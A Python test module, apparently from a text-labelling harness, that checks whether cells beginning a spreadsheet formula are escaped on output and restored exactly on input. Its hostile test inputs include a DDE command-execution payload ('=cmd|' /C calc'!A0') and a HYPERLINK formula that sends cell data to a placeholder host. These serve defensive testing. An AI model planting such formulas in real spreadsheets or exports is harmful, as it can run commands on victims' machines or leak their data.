"""Cells that a spreadsheet program would compute: defused where people open them, and read back exactly."""

from __future__ import annotations

import ast
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from harness.articles.frames_by_stance import frames_by_stance
from harness.articles.gold_sample import read_gold
from harness.articles.readings_table import ReadingsTable, load_readings
from harness.articles.sampling import draw_sample, write_sample
from harness.articles.share_report import ShareReport, share_rows, write_report
from harness.articles.shares import estimate_shares
from harness.corpora import tabular
from harness.serving.inference import load_folder
from harness.serving.inference.file_options import FileOptions
from harness.serving.inference.formats import Format, open_rows, row_writer
from harness.serving.inference.labelling import predict_file
from harness.serving.inference.text_layout import TextLayout
from harness.values import spreadsheets
from harness.values.row_files import DELIMITERS
from harness.values.spreadsheets import PREFIX, defused, frame_text, guarded, restored, table_text
from tests.serving.toy_models import write_model

HARNESS = Path(__file__).parents[2] / "harness"
COMPUTED = "=+-@\t\r\n＝＋－＠"
# The escape itself, its two characters, and every character that begins a formula, more often than others.
TEXTS = st.lists(
    st.sampled_from(
        [*COMPUTED, PREFIX, "'", "\\", '"', ",", ";", "1", ".", "e", " ", "a", "é", "“", "\u2028"]
    )
    | st.characters(exclude_categories=("Cs",), exclude_characters="\0"),
    max_size=8,
).map("".join)
HOSTILE = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "=", "-", "'=1", "''=1"),
    *(f"{PREFIX}=1+1", f"{PREFIX}{PREFIX}@x", PREFIX, f"{PREFIX}well", f"{PREFIX}-5", "-5", "+4.5e3", "-5-5"),
    *('=HYPERLINK("http://example.org/?"&A1,"x")', "=cmd|' /C calc'!A0", "'tis", "Varna, she said"),
)


@given(TEXTS)
@example(PREFIX)
@example(PREFIX + "=")
@example("-1\n")
@settings(max_examples=300, database=None, deadline=None)
def test_what_is_defused_is_restored_exactly(text: str) -> None:
    assert restored(defused(text)) == text
    assert restored(guarded(text)) == text


@given(TEXTS)
@settings(max_examples=300, database=None, deadline=None)
def test_no_defused_cell_begins_a_formula(text: str) -> None:
    cell = defused(text)
    assert not cell.startswith(tuple(COMPUTED)) or is_number(cell)


def is_number(text: str) -> bool:
    try:
        return text.isascii() and text == text.strip() and float(text.replace(",", ".")) is not None
    except ValueError:
        return False


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-5", "-1,5"])
def test_a_number_is_no_formula(text: str) -> None:
    assert defused(text) == text


def test_texts_that_only_look_quoted_are_let_alone() -> None:
    for text in ("'@ECB says no'", "'-", "'=1", "\\=1", "' =1"):
        assert restored(text) == text


def records(columns: int = 2) -> list[dict[str, Any]]:
    return [{f"c{k}": text for k in range(columns)} for text in HOSTILE]


@pytest.mark.parametrize("raw", [False, True])
@pytest.mark.parametrize("kind", ["csv", "tsv", "xlsx", "jsonl", "parquet"])
def test_a_table_is_read_back_as_it_was_written(tmp_path: Path, kind: Format, raw: bool) -> None:
    rows, layout = records(), TextLayout(raw=raw)
    if kind == "xlsx":
        # XML has no carriage return.
        rows = [row for row in rows if "\r" not in row["c0"]]
    path = tmp_path / f"table.{kind}"
    with path.open("wb") as handle:
        writer = row_writer(handle, kind, list(rows[0]), None, layout=layout)
        writer.write(rows)
        writer.close()
    with open_rows(path, kind, 5, layout=layout) as stream:
        assert [row for chunk in stream.chunks for row in chunk] == rows


@pytest.mark.parametrize("raw", [False, True])
def test_raw_writes_cells_as_they_are(raw: bool) -> None:
    (row,) = table_text(["=a"], [{"=a": "=1+1"}], raw=raw).splitlines()[1:]
    frame = frame_text(pd.DataFrame({"=a": ["=1+1"], "b": [-1]}), raw=raw)
    prefix = "" if raw else PREFIX
    assert (row, frame) == (f"{prefix}=1+1", f"{prefix}=a,b\n{prefix}=1+1,-1\n")


@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_predict_gives_the_cells_of_its_input(tmp_path: Path, ending: str) -> None:
    model = load_folder(write_model(tmp_path / "model"))
    source, first, second = (tmp_path / f"{name}{ending}" for name in ("in", "first", "second"))
    texts = [f"{text} Varna praised Ostrel." for text in HOSTILE]
    rows = [
        {"id": text, "text": sentence, "target": "Varna"}
        for text, sentence in zip(HOSTILE, texts, strict=True)
    ]
    with source.open("w", encoding="utf-8", newline="") as handle:
        table = spreadsheets.DelimitedWriter(
            handle, ["id", "text", "target"], delimiter=DELIMITERS["csv" if ending == ".csv" else "tsv"]
        )
        table.write_header()
        table.write(rows)
    predict_file(model, source, first)
    kind: Format = "csv" if ending == ".csv" else "tsv"
    with open_rows(first, kind, 100) as stream:
        labelled = [row for chunk in stream.chunks for row in chunk]
    assert [{name: row[name] for name in ("id", "text", "target")} for row in labelled] == rows
    with open_rows(first, kind, 100, layout=TextLayout(raw=True)) as stream:
        cells = [cell for chunk in stream.chunks for row in chunk for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(tuple(COMPUTED)) and not is_number(cell)] == []
    # What was labelled once is labelled again: the second output has the same cells.
    with first.open(encoding="utf-8", newline="") as handle:
        again = handle.read().replace("label", "earlier", 1).replace("p_", "q_").replace("abstain", "passed")
    source.write_text(again, encoding="utf-8", newline="")
    predict_file(model, source, second)
    with open_rows(second, kind, 100) as stream:
        assert [row["text"] for chunk in stream.chunks for row in chunk] == texts


def test_rows_that_are_set_aside_are_defused(tmp_path: Path) -> None:
    model = load_folder(write_model(tmp_path / "model"))
    source, aside = tmp_path / "in.jsonl", tmp_path / "aside.csv"
    source.write_text('{"text": "Varna.", "target": "Varna"}\n{"text": 3, "target": "=1+1"}\n')
    for raw in (False, True):
        options = FileOptions(layout=TextLayout(raw=raw), skip_bad=aside)
        assert predict_file(model, source, tmp_path / "out.jsonl", options=options) == 1
        assert aside.read_text(encoding="utf-8-sig").splitlines()[1].endswith(f",{'' if raw else PREFIX}=1+1")


@pytest.fixture
def readings(tmp_path: Path) -> Path:
    columns = ["article", "sentence", "target", "sure", "own_voice", "stance", "text", "outlet", "date"]
    rows = [
        {"article": article, "sentence": n, "target": target, "sure": True, "own_voice": True}
        | {"stance": "critical" if n % 3 else "neutral", "text": article, "outlet": "@Ledger"}
        | {"date": "2030-05-01"}
        for n in range(3)
        for target in ("=Varna", f"{PREFIX}-Ostrel")
        for article in HOSTILE
    ]
    path = tmp_path / "readings.csv"
    path.write_text(table_text(columns, rows), encoding="utf-8", newline="")
    return path


@pytest.mark.parametrize("raw", [False, True])
def test_shares_read_the_gold_sample_of_hostile_rows(readings: Path, tmp_path: Path, raw: bool) -> None:
    table = load_readings(readings)
    assert set(table.rows["text"]) == set(HOSTILE)
    if raw:
        # What begins with the prefix is the one thing that --raw cannot keep.
        escaped = table.rows["row"].str.startswith(PREFIX) | table.rows["target"].str.startswith(PREFIX)
        table = ReadingsTable(table.rows[~escaped].reset_index(drop=True), 0)
    drawn = draw_sample(table, 90, by=("target",)).assign(gold="critical")
    gold = tmp_path / "gold.csv"
    write_sample(drawn, gold, raw=raw)
    sample = read_gold(gold, table)
    assert sorted(sample.rows["row"]) == sorted(drawn["row"])
    shares = estimate_shares(table, sample, by=("target", "outlet"))
    written, _ = write_report(ShareReport(shares), tmp_path / "shares", raw=raw)
    cells = pd.read_csv(written, dtype=str, keep_default_na=False)
    assert set(cells["target"].map(restored)) == {row["target"] for row in share_rows(shares)}
    assert any(cell.startswith("=") for cell in cells["target"]) == raw


@pytest.mark.parametrize("raw", [False, True])
def test_crosstab_defuses_the_names_of_parties(tmp_path: Path, raw: bool) -> None:
    labelled, output = tmp_path / "labelled.csv", tmp_path / "table.csv"
    rows = [
        {"text": f"Sentence {n}.", "target": "=Varna", "label": "critical", "frames": "conflict"}
        for n in range(40)
    ]
    rows += [{**row, "target": "Ostrel"} for row in rows]
    labelled.write_text(table_text(list(rows[0]), rows), encoding="utf-8", newline="")
    tables, _ = frames_by_stance(labelled, output=output, raw=raw)
    assert [table.party for table in tables] == ["all parties", "=Varna", "Ostrel"]
    assert (f"{PREFIX}=Varna" in output.read_text(encoding="utf-8")) != raw


@pytest.mark.parametrize("ending", ["csv", "tsv", "xlsx"])
def test_a_corpus_is_read_as_it_was_before_it_was_defused(tmp_path: Path, ending: Format) -> None:
    path = tmp_path / f"corpus.{ending}"
    rows = [row for row in records() if "\r" not in row["c0"]]
    handle = io.BytesIO()
    writer = row_writer(handle, ending, list(rows[0]), None)
    writer.write(rows)
    writer.close()
    path.write_bytes(handle.getvalue())
    assert tabular.read_cells(path).cells["c0"] == [row["c0"] for row in rows]


def test_a_published_file_is_read_as_it_stands(tmp_path: Path) -> None:
    path = tmp_path / "corpus.csv"
    path.write_text(f"text\n{PREFIX}=1\n", encoding="utf-8")
    assert tabular.read_cells(path, tabular.PUBLISHED).cells == {"text": [f"{PREFIX}=1"]}


def calls(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            yield node.attr
        elif isinstance(node, ast.ImportFrom) and node.module in ("csv", "openpyxl"):
            yield from (alias.name for alias in node.names)


def test_one_place_writes_tables() -> None:
    writers = {"to_csv", "to_excel", "DictWriter", "Workbook"}
    places = {"values/spreadsheets.py", "serving/inference/sheets.py"}
    found = {
        str(path.relative_to(HARNESS))
        for path in HARNESS.rglob("*.py")
        if writers & set(calls(ast.parse(path.read_text(encoding="utf-8"))))
        or "csv.writer" in path.read_text(encoding="utf-8")
    }
    assert found == places
